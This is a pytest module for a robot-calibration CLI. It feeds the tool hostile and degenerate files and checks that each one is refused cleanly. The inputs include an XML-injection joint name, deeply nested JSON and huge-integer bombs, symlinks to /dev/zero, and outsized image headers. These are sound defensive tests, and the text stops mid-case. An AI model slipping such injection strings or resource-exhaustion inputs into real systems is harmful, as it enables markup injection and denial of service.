"""Hostile and degenerate inputs through the command line (issue 13's corpus).

Every case runs ``quickhealth.station.cli.main`` in-process (the console script's own entry
point, same code) on files it makes from real fitted data, and checks: the exit status, one
``quickhealth: error:`` line per finding (one for most cases), no traceback, no input file
changed, no output left behind, and the program's targets where a program is written.  A
handful also run through the installed ``quickhealth`` script in a subprocess.

Issue 32 added a hostile colleague on the same station PC or network (its section at the end:
locks and planted links, metadata forged by line breaks, formula cells, the report's
embedded JSON, motions compensate cannot rewrite, alias bombs, oversized JSON, a model holding
Infinity in the trend, names differing only in case); its network and worker cases are in
tests/station/test_reprocess.py, its link cases of shared files in test_output_lock.py.

Classes (issue 13 "What was seen"): 1 bad data -> confident verdict, 2 unsafe compensation,
3 the URScript reader, 4 crashes exiting 1, 5 outputs destroying inputs, 6 memory bounds,
7 (trend: tests/identify/test_trend.py), 8 small but misleading.  Issue 27 added the archive
(another index's run, links, disk full, refused adds creating nothing, damaged and
unreachable indexes), numeric option bounds and the usage errors that were internal errors;
the runner also checks that no process is left running and no staging folder is left.  The
workers of parallel commands: tests/station/test_workers_end.py.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import stat
import struct
import subprocess
import sys
import xml.etree.ElementTree as ET
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pytest

from quickhealth.identify.errormodel import ErrorModelSpec
from quickhealth.identify.fit import InstrumentNoise, fit_model
from quickhealth.identify.twin import make_twin, random_joints
from quickhealth.identify.urscript import joint_targets
from quickhealth.station import formats
from quickhealth.station.cli import main

ROOT = Path(__file__).resolve().parents[2]
GOOD_Q = [0.3, -1.2, 1.1, -0.5, 1.2, 0.4]
GOOD_Q2 = [-0.4, -1.6, 1.7, -1.0, 0.9, -0.2]


def _list(q: list[float]) -> str:
    return "[" + ", ".join(f"{v:g}" for v in q) + "]"


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    """Good files: a fitted model, its measurements, a program, a fitted run folder."""
    d = tmp_path_factory.mktemp("good")
    twin = make_twin(seed=2)
    q = random_joints(twin.robot, 60, seed=3, T_instr_base=twin.truth.T_instr_base)
    meas = twin.measure(q, seed=4)
    spec = ErrorModelSpec.uniform(6, 1, twin.robot.q_min, twin.robot.q_max)
    fm = fit_model(twin.robot, meas, spec, noise=InstrumentNoise(3e-5, 1e-4))
    formats.write_model(d / "model.json", fm)
    formats.write_measurements(d / "meas.csv", meas)
    (d / "prog.script").write_text(
        f"def prog():\n  movej({_list(GOOD_Q)}, a=1.0, v=0.2)\n"
        f"  movel({_list(GOOD_Q2)}, a=1.0, v=0.2)\nend\n"
    )
    run = d / "run1"
    run.mkdir()
    formats.write_model(run / "model.json", fm)
    formats.write_measurements(run / "measurements.csv", meas)
    formats.write_report(
        run / "report.json",
        {
            "n_poses": fm.n_poses,
            "chi2": fm.chi2_data,
            "bic": fm.bic,
            "rms_pos_mm": fm.rms_pos * 1e3,
            "workspace": {"mean_mm": 0.3, "std_mm": 0.1, "max_mm": 0.8},
        },
    )
    return {"dir": d, "fm": fm, "meas": meas, "doc": json.loads((d / "model.json").read_text())}


@dataclass
class Case:
    argv: list[str]
    code: int
    pattern: str
    inputs: list[Path] = field(default_factory=list)  # must not change
    absent: list[Path] = field(default_factory=list)  # must not exist afterwards
    n_lines: int = 1
    check: Callable[[], None] | None = None
    patch: Callable[[pytest.MonkeyPatch], None] | None = None  # a fault at the hardware edge


def _digest(p: Path) -> str | None:
    if p.is_symlink() or not p.exists():
        return None if not p.is_symlink() else os.readlink(p)
    if p.is_dir():
        return "dir:" + ",".join(sorted(x.name for x in p.iterdir()))
    return hashlib.sha256(p.read_bytes()).hexdigest()


def _model(base, tmp: Path, edit: Callable[[dict], None], name: str = "m.json") -> Path:
    doc = json.loads(json.dumps(base["doc"]))
    edit(doc)
    p = tmp / name
    p.write_text(json.dumps(doc))
    return p


def _coeff(label: str, value: float) -> Callable[[dict], None]:
    def edit(doc: dict) -> None:
        spec = ErrorModelSpec(
            np.array(doc["spec"]["orders"]), doc["spec"]["q_lo"], doc["spec"]["q_hi"]
        )
        doc["coeffs"][spec.labels().index(label)] = value

    return edit


def _csv(
    base,
    tmp: Path,
    rows: list[list[float]] | None = None,
    name: str = "bad.csv",
    text: str | None = None,
) -> Path:
    p = tmp / name
    if text is None:
        head = "q1,q2,q3,q4,q5,q6,x,y,z"
        body = "\n".join(",".join(f"{v!r}" for v in r) for r in rows or [])
        text = head + "\n" + body + "\n"
    p.write_text(text)
    return p


def _good_rows(base) -> list[list[float]]:
    m = base["meas"]
    return [[float(v) for v in (*np.degrees(m.q[i]), *(m.pos[i] * 1e3))] for i in range(m.n_poses)]


def _script(tmp: Path, body: str, name: str = "p.script") -> Path:
    p = tmp / name
    p.write_text(body)
    return p


def _png_header(tmp: Path, w: int, h: int, name: str) -> Path:
    """A valid PNG signature and IHDR claiming w x h (the data is one tiny IDAT)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0))
    png += chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")
    p = tmp / name
    p.write_bytes(png)
    return p


# --------------------------------------------------------------------------- the corpus

CASES: dict[str, Callable[[dict, Path], Case]] = {}


def case(name: str):
    def deco(f):
        CASES[name] = f
        return f

    return deco


def _fit(csv: Path, tmp: Path, *extra: str) -> list[str]:
    return [
        "identify",
        "fit",
        str(csv),
        "--robot",
        "ur5",
        "--out",
        str(tmp / "out"),
        "--quiet",
        *extra,
    ]


# ---- 1. bad data must not become a confident verdict


@case("fit-150-copies-of-one-row")
def _(b, t):
    csv = _csv(b, t, [_good_rows(b)[0]] * 150)
    return Case(_fit(csv, t), 2, r"only 1 distinct joint configuration", [csv], [t / "out"])


@case("fit-q3-5000-deg")
def _(b, t):
    rows = _good_rows(b)
    rows[7][2] = 5000.0
    csv = _csv(b, t, rows)
    return Case(
        _fit(csv, t),
        2,
        r"bad\.csv: row 8: joint 3 at 5000 deg is outside the robot's limits",
        [csv],
        [t / "out"],
    )


@case("fit-q2-1e308")
def _(b, t):
    rows = _good_rows(b)
    rows[0][1] = 1e308
    csv = _csv(b, t, rows)
    return Case(_fit(csv, t), 2, r"joint 2 at 1e\+308 deg is outside", [csv], [t / "out"])


@case("fit-joint-1-never-moves")
def _(b, t):
    rows = _good_rows(b)
    for r in rows:
        r[0] = 10.0
    csv = _csv(b, t, rows)
    return Case(
        _fit(csv, t),
        2,
        r"joint\(s\) 1 move less than 1.0 deg .* cannot be identified",
        [csv],
        [t / "out"],
    )


@case("fit-nan-cell")
def _(b, t):
    csv = _csv(b, t, _good_rows(b))
    lines = csv.read_text().splitlines()
    lines[3] = "nan," + lines[3].split(",", 1)[1]
    csv.write_text("\n".join(lines) + "\n")
    return Case(
        _fit(csv, t), 2, r"bad\.csv:4:1: column 'q1': nan is not finite", [csv], [t / "out"]
    )


@case("fit-margin-nan")
def _(b, t):
    return Case(
        _fit(b["dir"] / "meas.csv", t, "--margin", "nan"),
        2,
        r"--margin: nan is not a BIC margin \(a number in \[0, 10000\]\)",
        [b["dir"] / "meas.csv"],
        [t / "out"],
    )


@case("fit-margin-inf")
def _(b, t):
    return Case(
        _fit(b["dir"] / "meas.csv", t, "--margin", "inf"),
        2,
        r"--margin: inf is not a BIC margin",
        [],
        [t / "out"],
    )


@case("fit-sigma-pos-nan")
def _(b, t):
    return Case(
        _fit(b["dir"] / "meas.csv", t, "--sigma-pos-mm", "nan"),
        2,
        r"--sigma-pos-mm: nan is not a position uncertainty in mm",
        [],
        [t / "out"],
    )


@case("fit-over-row-limit")
def _(b, t):
    row = ",".join(["1"] * 9)
    csv = _csv(b, t, text="q1,q2,q3,q4,q5,q6,x,y,z\n" + (row + "\n") * (formats.MAX_FIT_ROWS + 1))
    return Case(
        _fit(csv, t),
        2,
        rf"{formats.MAX_FIT_ROWS + 1} rows is over the fit's limit of {formats.MAX_FIT_ROWS}",
        [csv],
        [t / "out"],
    )


@case("predict-threshold-nan")
def _(b, t):
    d = b["dir"]
    return Case(
        [
            "identify",
            "predict",
            str(d / "model.json"),
            str(d / "prog.script"),
            "--out",
            str(t / "o.csv"),
            "--threshold-mm",
            "nan",
        ],
        2,
        r"--threshold-mm: nan is not a length in mm",
        [],
        [t / "o.csv"],
    )


def _predict(b, t, model: Path, inp: Path | None = None) -> Case:
    inp = inp or b["dir"] / "prog.script"
    return Case(
        ["identify", "predict", str(model), str(inp), "--out", str(t / "o.csv")],
        2,
        "",
        [model, inp],
        [t / "o.csv"],
    )


def _with(c: Case, pattern: str, **kw) -> Case:
    c.pattern = pattern
    for k, v in kw.items():
        setattr(c, k, v)
    return c


@case("model-nan-coefficient")
def _(b, t):
    return _with(
        _predict(b, t, _model(b, t, _coeff("j2.dx.c0", float("nan")))),
        r"coefficient j2\.dx\.c0 is nan, not a finite number",
    )


@case("model-null-coefficient")
def _(b, t):
    return _with(
        _predict(b, t, _model(b, t, _coeff("j2.dx.c0", None))), r"coefficient j2\.dx\.c0 is nan"
    )


@case("model-too-few-coefficients")
def _(b, t):
    return _with(
        _predict(b, t, _model(b, t, lambda d: d.__setitem__("coeffs", d["coeffs"][:5]))),
        r"5 coefficients, but the orders need \d+",
    )


@case("model-huge-coefficient")
def _(b, t):
    return _with(
        _predict(b, t, _model(b, t, _coeff("j2.ez.c1", 40.0))),
        r"its TCP position correction reaches \d+(\.\d+)? mm \(limit 50 mm\) at joints \(.*\) "
        r"deg within the identified ranges, beyond any real robot once base and tool are "
        r"registered: refusing the model",
    )


@case("model-wrong-schema")
def _(b, t):
    return _with(
        _predict(b, t, _model(b, t, lambda d: d.__setitem__("schema", "quickhealth.model/9"))),
        r"not a quickhealth model \(schema 'quickhealth\.model/9'",
    )


@case("model-200k-deep-json")
def _(b, t):
    p = t / "deep.json"
    p.write_text("[" * 200_000 + "]" * 200_000)
    return _with(_predict(b, t, p), r"JSON nested deeper than 32 levels")


@case("model-100k-digit-integer")
def _(b, t):
    p = t / "digits.json"
    p.write_text('{"schema": "quickhealth.model/1", "n": ' + "9" * 100_000 + "}")
    return _with(_predict(b, t, p), r"not a usable model file: Exceeds the limit")


@case("model-binary-pickle")
def _(b, t):
    import pickle

    p = t / "model.pkl"
    p.write_bytes(pickle.dumps({"coeffs": [1.0, 2.0], "x": b"\xff\xfe"}))
    return _with(_predict(b, t, p), r"not UTF-8 text \(binary content")


@case("model-symlink-to-dev-zero")
def _(b, t):
    p = t / "zero.json"
    p.symlink_to("/dev/zero")
    return _with(_predict(b, t, p), r"zero\.json: not a regular file")


@case("model-is-a-directory")
def _(b, t):
    (t / "mdir").mkdir()
    return _with(_predict(b, t, t / "mdir"), r"mdir: is a directory")


@case("model-nan-covariance")
def _(b, t):
    return _with(
        _predict(b, t, _model(b, t, lambda d: d["cov"][0].__setitem__(0, None))),
        r"covariance holds numbers that are not finite",
    )


@case("model-nan-joint-range")
def _(b, t):
    return _with(
        _predict(b, t, _model(b, t, lambda d: d["spec"]["q_lo"].__setitem__(1, None))),
        r"joint ranges are not finite",
    )


@case("model-missing-key")
def _(b, t):
    return _with(
        _predict(b, t, _model(b, t, lambda d: d.pop("stats"))),
        r"model file is incomplete or damaged: KeyError\('stats'\)",
    )


@case("model-links-string")
def _(b, t):
    return _with(
        _predict(b, t, _model(b, t, lambda d: d["robot"].__setitem__("links", "abc"))),
        r"model file is incomplete or damaged",
    )


# ---- 1. reports and the archive


def _archive_add(b, t, run: Path) -> Case:
    arch = t / "arch"
    return Case(
        ["archive", "add", str(run), "--robot", "cell3", "--archive", str(arch)],
        2,
        "",
        [run],
        [arch / "robots"],
    )


def _run_copy(b, t, edit: Callable[[Path], None]) -> Path:
    import shutil

    run = t / "run"
    shutil.copytree(b["dir"] / "run1", run)
    edit(run)
    return run


@case("archive-report-only-schema")
def _(b, t):
    run = _run_copy(
        b, t, lambda r: (r / "report.json").write_text('{"schema": "quickhealth.report/1"}')
    )
    return _with(
        _archive_add(b, t, run), r"workspace\.mean_mm is missing: not a complete fit report"
    )


@case("archive-report-max-null")
def _(b, t):
    def edit(r: Path) -> None:
        doc = json.loads((r / "report.json").read_text())
        doc["workspace"]["max_mm"] = None
        (r / "report.json").write_text(json.dumps(doc))

    return _with(_archive_add(b, t, _run_copy(b, t, edit)), r"workspace\.max_mm is missing")


@case("archive-report-bic-inf")
def _(b, t):
    def edit(r: Path) -> None:
        txt = (r / "report.json").read_text()
        doc = json.loads(txt)
        doc["bic"] = float("-inf")
        (r / "report.json").write_text(json.dumps(doc))

    return _with(
        _archive_add(b, t, _run_copy(b, t, edit)), r"bic is -inf: not a complete fit report"
    )


@case("archive-run-without-model")
def _(b, t):
    return _with(
        _archive_add(b, t, _run_copy(b, t, lambda r: (r / "model.json").unlink())),
        r"no model\.json \(fit the run first",
    )


@case("archive-run-with-nan-model")
def _(b, t):
    def edit(r: Path) -> None:
        doc = json.loads((r / "model.json").read_text())
        doc["coeffs"][0] = None
        (r / "model.json").write_text(json.dumps(doc))

    return _with(_archive_add(b, t, _run_copy(b, t, edit)), r"model\.json: coefficient .* is nan")


@case("archive-report-deep-json")
def _(b, t):
    run = _run_copy(
        b, t, lambda r: (r / "report.json").write_text('{"a":' * 5000 + "1" + "}" * 5000)
    )
    return _with(_archive_add(b, t, run), r"JSON nested deeper than 32 levels")


# ---- 2. compensate must never make a program worse


def _comp(b, t, model: Path | None = None, prog: Path | None = None, *extra: str) -> Case:
    model = model or b["dir"] / "model.json"
    prog = prog or b["dir"] / "prog.script"
    out = t / "comp.script"
    return Case(
        ["compensate", str(model), str(prog), "--out", str(out), *extra],
        2,
        "",
        [model, prog],
        [out],
    )


@case("compensate-huge-j2-coefficient")
def _(b, t):
    return _with(
        _comp(b, t, _model(b, t, _coeff("j2.ez.c0", 2.0))),
        r"its TCP position correction reaches \d+(\.\d+)? mm \(limit 50 mm\).*beyond any real "
        r"robot once base and tool are registered: refusing the model",
    )


@case("compensate-correction-over-cap")
def _(b, t):
    m = _model(b, t, _coeff("j2.ez.c0", 0.04))  # 2.3 deg: a believable model, a large correction
    return _with(
        _comp(b, t, m),
        r"p?rog\.script:[23]: target [12]: joint 2 correction [-+]2\.\d+ deg exceeds --max-correction-deg 1; nothing written",
        n_lines=2,
    )


@case("compensate-100-rad-target")
def _(b, t):
    p = _script(t, f"movej({_list([0.3, 100.0, 1.1, -0.5, 1.2, 0.4])})\nmovej({_list(GOOD_Q)})\n")
    return _with(
        _comp(b, t, None, p),
        r"p\.script:1: target 1: joint 2 at 5729\.58 deg is outside the robot's limits",
    )


@case("compensate-outside-identified-range")
def _(b, t):
    m = _model(b, t, lambda d: d["spec"]["q_lo"].__setitem__(0, 0.0))
    p = _script(t, f"movej({_list(GOOD_Q)})\nmovej({_list([-0.4] + GOOD_Q[1:])})\n")
    return _with(
        _comp(b, t, m, p),
        r"p\.script:2: target 2: joint 1 at -22\.9183 deg is outside the range the model was identified on",
    )


@case("compensate-max-correction-nan")
def _(b, t):
    return _with(
        _comp(b, t, None, None, "--max-correction-deg", "nan"), r"'nan' is not a finite number"
    )


@case("compensate-max-correction-zero")
def _(b, t):
    return _with(
        _comp(b, t, None, None, "--max-correction-deg", "0"),
        r"--max-correction-deg must be in \(0, 10\]",
    )


@case("compensate-tcp-nan")
def _(b, t):
    return _with(_comp(b, t, None, None, "--tcp-mm", "nan,0,0"), r"--tcp-mm must be X,Y,Z in mm")


@case("compensate-out-is-the-program")
def _(b, t):
    c = _comp(b, t)
    c.argv[c.argv.index("--out") + 1] = str(b["dir"] / "prog.script")
    return _with(c, r"prog\.script: --out names an input file of this command", absent=[])


@case("compensate-errors-is-the-model")
def _(b, t):
    return _with(
        _comp(b, t, None, None, "--errors", str(b["dir"] / "model.json")),
        r"model\.json: --errors names an input file",
    )


@case("compensate-within-a-raised-cap")
def _(b, t):
    m = _model(b, t, _coeff("j2.ez.c0", 0.04))
    c = _comp(b, t, m, None, "--max-correction-deg", "5")
    out = t / "comp.script"

    def check() -> None:
        got = joint_targets(out.read_text(), 6)
        assert got.q.shape == (2, 6) and not got.unreadable
        dq = np.degrees(got.q - np.array([GOOD_Q, GOOD_Q2]))
        assert 1.0 < np.abs(dq).max() < 5.0
        assert "def prog():" in out.read_text() and "a=1.0, v=0.2" in out.read_text()

    return _with(c, r"2 targets: predicted TCP error", code=0, absent=[], check=check)


# ---- 3. one URScript reader for predict and compensate


@case("script-targets-in-comments-and-strings")
def _(b, t):
    p = _script(
        t,
        f'# movej({_list(GOOD_Q2)})\n textmsg("movej({_list(GOOD_Q2)})")\n'
        f"movej({_list(GOOD_Q)}, a=1)  # movel({_list(GOOD_Q2)})\n"
        f"popup('movel([1,2,3,4,5,6])')\n",
    )
    c = _comp(b, t, None, p)
    out = t / "comp.script"

    def check() -> None:
        new = out.read_text()
        assert new.count("[") == p.read_text().count("[")
        got = joint_targets(new, 6)
        assert got.q.shape == (1, 6) and got.lines == (3,)
        assert f"# movej({_list(GOOD_Q2)})" in new and f'textmsg("movej({_list(GOOD_Q2)})")' in new
        assert "popup('movel([1,2,3,4,5,6])')" in new
        assert np.abs(got.q[0] - GOOD_Q).max() < np.radians(1.0)

    return _with(c, r"1 targets:", code=0, absent=[], check=check)


def _predict_rows(t: Path, n: int, lines: list[int]) -> Callable[[], None]:
    def check() -> None:
        rows = (t / "o.csv").read_text().splitlines()
        head = rows[0].split(",")
        assert len(rows) == n + 1
        assert [int(r.split(",")[head.index("line")]) for r in rows[1:]] == lines

    return check


@case("script-space-before-bracket")
def _(b, t):
    p = _script(t, f"movej ({_list(GOOD_Q)})\nmovel\t(\n  {_list(GOOD_Q2)}, a=1)\n")
    return _with(
        _predict(b, t, b["dir"] / "model.json", p),
        r"2 commands: predicted TCP error",
        code=0,
        absent=[],
        check=_predict_rows(t, 2, [1, 2]),
    )


@case("script-hash-inside-string-then-move")
def _(b, t):
    p = _script(t, f'textmsg("a # b"); movej({_list(GOOD_Q)})\nmovej({_list(GOOD_Q2)})\n')
    return _with(
        _predict(b, t, b["dir"] / "model.json", p),
        r"2 commands",
        code=0,
        absent=[],
        check=_predict_rows(t, 2, [1, 2]),
    )


@case("script-variable-target")
def _(b, t):
    p = _script(t, f"home_q = {_list(GOOD_Q)}\nmovej({_list(GOOD_Q)})\n  movej(home_q, a=1)\n")
    return _with(
        _predict(b, t, b["dir"] / "model.json", p),
        r"p\.script:3:3: movej target 'home_q' is not a literal joint list",
    )


@case("script-pose-literal-target")
def _(b, t):
    p = _script(t, f"movej({_list(GOOD_Q)})\nmovel(p[0.1, 0.2, 0.3, 0, 0, 0])\n")
    return _with(
        _comp(b, t, None, p),
        r"p\.script:2:1: movel to a Cartesian pose p\[\.\.\.\] has no joint target",
    )


@case("script-two-unreadable-targets")
def _(b, t):
    p = _script(t, f"movej({_list(GOOD_Q)})\nmovej(q0)\nmovel(p[0,0,0,0,0,0])\n")
    return _with(
        _comp(b, t, None, p),
        r"p\.script:[23]:1: (movej target 'q0'|movel to a Cartesian)",
        n_lines=2,
    )


@case("script-unterminated-string")
def _(b, t):
    p = _script(t, f'textmsg("oops)\nmovej({_list(GOOD_Q)})\n')
    return _with(
        _predict(b, t, b["dir"] / "model.json", p), r"p\.script:1:9: string literal is not closed"
    )


@case("script-binary")
def _(b, t):
    p = t / "bin.script"
    p.write_bytes(bytes(range(256)) * 8)
    return _with(_predict(b, t, b["dir"] / "model.json", p), r"bin\.script: not UTF-8 text")


@case("script-nul-bytes")
def _(b, t):
    p = _script(t, f"movej({_list(GOOD_Q)})\x00\x00\n")
    return _with(
        _predict(b, t, b["dir"] / "model.json", p),
        r"p\.script: not a URScript program \(binary content\)",
    )


@case("script-unbalanced-bracket")
def _(b, t):
    p = _script(t, "movej([0.3, -1.2, 1.1, -0.5, 1.2, 0.4)\n")
    return _with(
        _predict(b, t, b["dir"] / "model.json", p), r"p\.script:1:38: '\)' closes nothing open"
    )


@case("script-wrong-joint-count")
def _(b, t):
    p = _script(t, "movej([0.3, -1.2, 1.1])\n")
    return _with(_comp(b, t, None, p), r"p\.script:1:1: movej has 3 joint values, the robot has 6")


@case("script-no-targets")
def _(b, t):
    p = _script(t, 'def prog():\n  textmsg("movej([1,2,3,4,5,6])")\nend\n')
    return _with(
        _predict(b, t, b["dir"] / "model.json", p),
        r"p\.script:1:1: no movej/movel with a joint target found",
    )


@case("script-expression-target")
def _(b, t):
    p = _script(t, f"movej({_list(GOOD_Q)} + [0, 0, 0, 0, 0, 0.1])\n")
    return _with(_comp(b, t, None, p), r"p\.script:1:1: movej target is an expression")


@case("script-symlink-to-dev-zero")
def _(b, t):
    p = t / "z.script"
    p.symlink_to("/dev/zero")
    return _with(_predict(b, t, b["dir"] / "model.json", p), r"z\.script: not a regular file")


@case("predict-csv-target-outside-limits")
def _(b, t):
    rows = _good_rows(b)[:5]
    rows[2][0] = 400.0
    csv = _csv(b, t, rows)
    return _with(
        _predict(b, t, b["dir"] / "model.json", csv),
        r"bad\.csv: row 3: joint 1 at 400 deg is outside the robot's limits",
    )


# ---- 4. crashes must not exit 1: robot files, cells, file systems, images


def _robot_fit(b, t, toml: str) -> Case:
    r = t / "r.toml"
    r.write_text(toml)
    csv = b["dir"] / "meas.csv"
    return Case(
        ["identify", "fit", str(csv), "--robot", str(r), "--out", str(t / "out"), "--quiet"],
        2,
        "",
        [csv, r],
        [t / "out"],
    )


_J = "[[joint]]\na = {a}\nd = 0.0\nalpha = 90.0\n"


@case("robot-toml-string-number")
def _(b, t):
    return _with(_robot_fit(b, t, _J.format(a='"0.4"') * 6), r"joint 1: a = '0\.4' is not a number")


@case("robot-toml-joint-not-a-table")
def _(b, t):
    return _with(
        _robot_fit(b, t, "joint = [1, 2, 3]\n"), r"every joint must be a \[\[joint\]\] table"
    )


@case("robot-toml-com-strings")
def _(b, t):
    j = _J.format(a="0.1") + 'mass = 1.0\ncom = ["a", "b", "c"]\n'
    return _with(_robot_fit(b, t, j * 6), r"joint 1: com must be a list of 3 numbers")


@case("robot-toml-robot-not-a-table")
def _(b, t):
    return _with(
        _robot_fit(b, t, 'robot = "ur5"\n' + _J.format(a="0.1") * 6), r"\[robot\] must be a table"
    )


@case("robot-toml-unit-list")
def _(b, t):
    return _with(
        _robot_fit(b, t, '[robot]\nlength_unit = ["mm"]\n' + _J.format(a="0.1") * 6),
        r"r\.toml: not a DH table",
    )


@case("robot-toml-huge-link")
def _(b, t):
    return _with(_robot_fit(b, t, _J.format(a="1e300") * 6), r"a link is longer than 20 m")


@case("csv-cell-over-128-KiB")
def _(b, t):
    csv = _csv(b, t, _good_rows(b)[:10])
    lines = csv.read_text().splitlines()
    lines[2] = "1" * (129 * 1024) + "," + lines[2].split(",", 1)[1]
    csv.write_text("\n".join(lines) + "\n")
    return _with(
        _predict(b, t, b["dir"] / "model.json", csv),
        r"bad\.csv:3:1: line of \d+ characters is too long",
    )


@case("csv-cell-over-256-chars")
def _(b, t):
    csv = _csv(b, t, text="pose_id,q1,q2,q3,q4,q5,q6\n" + "x" * 300 + ",0,-90,0,-90,0,0\n")
    return _with(
        _predict(b, t, b["dir"] / "model.json", csv),
        r"bad\.csv:2:1: cell of 300 characters is over the limit of 256",
    )


@case("csv-symlink-to-dev-zero")
def _(b, t):
    p = t / "z.csv"
    p.symlink_to("/dev/zero")
    return _with(_predict(b, t, b["dir"] / "model.json", p), r"z\.csv: not a regular file")


@case("out-on-unwritable-file-system")
def _(b, t):
    d = b["dir"]
    out = Path("/sys/qh-corpus.csv")  # the kernel refuses a new file here, even to root
    return Case(
        ["identify", "predict", str(d / "model.json"), str(d / "prog.script"), "--out", str(out)],
        2,
        # a read-only /sys (a container) says so; a writable one refuses new files
        r"/sys/qh-corpus\.csv: cannot write: (Permission denied|Read-only file system)",
        [d / "model.json"],
        [out],
    )


@case("image-header-20000x20000")
def _(b, t):
    _png_header(t, 20000, 20000, "l0.png")
    _png_header(t, 20000, 20000, "r0.png")
    argv = [
        "vision",
        "calibrate",
        "--board",
        "charuco:7x5:30:21:DICT_4X4_50",
        "--left",
        str(t / "l*.png"),
        "--right",
        str(t / "r*.png"),
        "--out",
        str(t / "cal.json"),
    ]
    return Case(
        argv,
        2,
        r"l0\.png: the image header claims 400 Mpx, over the limit of 50 Mpx",
        [t / "l0.png"],
        [t / "cal.json"],
    )


@case("image-header-beyond-opencv")
def _(b, t):
    _png_header(t, 2_000_000, 2_000_000, "l0.png")
    _png_header(t, 2_000_000, 2_000_000, "r0.png")
    argv = [
        "vision",
        "calibrate",
        "--board",
        "charuco:7x5:30:21:DICT_4X4_50",
        "--left",
        str(t / "l*.png"),
        "--right",
        str(t / "r*.png"),
        "--out",
        str(t / "cal.json"),
    ]
    return Case(
        argv, 2, r"l0\.png: the image header claims 4000000 Mpx", [t / "l0.png"], [t / "cal.json"]
    )


# ---- 5. outputs never destroy inputs, never half-written, escaped


@case("predict-out-is-the-measurements")
def _(b, t):
    d = b["dir"]
    return Case(
        [
            "identify",
            "predict",
            str(d / "model.json"),
            str(d / "meas.csv"),
            "--out",
            str(d / "meas.csv"),
        ],
        2,
        r"meas\.csv: --out names an input file of this command; refusing to overwrite it",
        [d / "meas.csv", d / "model.json"],
    )


@case("predict-out-is-the-model-via-symlink")
def _(b, t):
    d = b["dir"]
    (t / "alias.json").symlink_to(d / "model.json")
    return Case(
        [
            "identify",
            "predict",
            str(d / "model.json"),
            str(d / "prog.script"),
            "--out",
            str(t / "alias.json"),
        ],
        2,
        r"alias\.json: --out names an input file",
        [d / "model.json"],
    )


@case("predict-out-is-a-directory")
def _(b, t):
    d = b["dir"]
    (t / "o.csv").mkdir()
    return Case(
        [
            "identify",
            "predict",
            str(d / "model.json"),
            str(d / "prog.script"),
            "--out",
            str(t / "o.csv"),
        ],
        2,
        r"o\.csv: is a directory, expected a file name",
        [d / "model.json", t / "o.csv"],
    )


@case("fit-out-would-overwrite-the-input")
def _(b, t):
    csv = t / "model.json"
    csv.write_bytes((b["dir"] / "meas.csv").read_bytes())
    return Case(
        ["identify", "fit", str(csv), "--robot", "ur5", "--out", str(t), "--quiet"],
        2,
        r"model\.json: --out names an input file",
        [csv],
    )


@case("export-nan-model-leaves-nothing")
def _(b, t):
    m = _model(b, t, _coeff("j3.dy.c0", float("nan")))
    return Case(
        ["export", str(m), "--urdf", str(t / "c.urdf"), "--json", str(t / "dh.json")],
        2,
        r"coefficient j3\.dy\.c0 is nan",
        [m],
        [t / "c.urdf", t / "dh.json"],
    )


@case("export-joint-name-xml-injection")
def _(b, t):
    evil = 'x"/><evil/><joint name="y'
    m = _model(
        b,
        t,
        lambda d: d["robot"].__setitem__(
            "joint_names", [evil, "a&b", "<j3>", "j4'", "j5\x01", "j6"]
        ),
    )
    urdf = t / "c.urdf"

    def check() -> None:
        root = ET.parse(urdf).getroot()
        assert root.find(".//evil") is None
        names = [j.get("name") for j in root.iter("joint")]
        assert names[:5] == [evil, "a&b", "<j3>", "j4'", "j5_"] and len(names) == 7

    return Case(
        ["export", str(m), "--urdf", str(urdf)], 0, r"wrote .*c\.urdf", [m], [], check=check
    )


@case("diagnose-json-is-the-measurements")
def _(b, t):
    d = b["dir"]
    return Case(
        ["diagnose", str(d / "model.json"), str(d / "meas.csv"), "--json", str(d / "meas.csv")],
        2,
        r"meas\.csv: --json names an input file",
        [d / "meas.csv"],
    )


@case("outputs-respect-the-umask")
def _(b, t):
    d = b["dir"]
    out = t / "o.csv"
    old = os.umask(0o027)

    def check() -> None:
        os.umask(old)
        assert stat.S_IMODE(out.stat().st_mode) == 0o640
        assert not [p for p in t.iterdir() if p.name.startswith(".o.csv")]

    return Case(
        ["identify", "predict", str(d / "model.json"), str(d / "prog.script"), "--out", str(out)],
        0,
        r"2 commands",
        [d / "model.json"],
        [],
        check=check,
    )


# ---- 5. every command's outputs: never one of its inputs (by path, symlink or hard link)


def _report_case(b, t, run: Path, *extra: str) -> Case:
    return Case(
        ["report", str(run), "--no-diagnose", "--archive", str(t / "arch"), *extra],
        2,
        "",
        [run / "model.json", run / "report.json", run / "measurements.csv"],
        [run / "report.html", t / "arch"],
    )


@case("report-out-is-the-report-json")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)
    return _with(
        _report_case(b, t, run, "--out", str(run / "report.json")),
        r"report\.json: --out names an input file of this command",
    )


@case("report-out-is-the-measurements")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)
    return _with(
        _report_case(b, t, run, "--out", str(run / "measurements.csv")),
        r"measurements\.csv: --out names an input file",
    )


@case("report-out-is-a-hard-link-to-the-model")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)
    os.link(run / "model.json", t / "page.html")
    return _with(
        _report_case(b, t, run, "--out", str(t / "page.html")),
        r"page\.html: --out names an input file",
    )


@case("report-run-without-report-json")
def _(b, t):
    run = _run_copy(b, t, lambda r: (r / "report.json").unlink())
    c = _report_case(b, t, run)
    c.inputs.remove(run / "report.json")
    c.absent.append(run / "report.json")
    return _with(
        c, r"run: no report\.json \(fit the run first: quickhealth identify fit .*measurements\.csv"
    )


@case("report-incomplete-schema-2-report")
def _(b, t):
    run = _run_copy(b, t, lambda r: None)  # labelled /2 but holds only the archive's figures
    return _with(
        _report_case(b, t, run),
        r"report\.json: missing key 'n_params': not a complete report\.json \(fit the run",
    )


@case("report-keeps-a-version-1-report-version-1")
def _(b, t):
    def v1(r: Path) -> None:
        doc = json.loads((r / "report.json").read_text())
        doc["schema"] = "quickhealth.report/1"
        (r / "report.json").write_text(json.dumps(doc))

    run = _run_copy(b, t, v1)
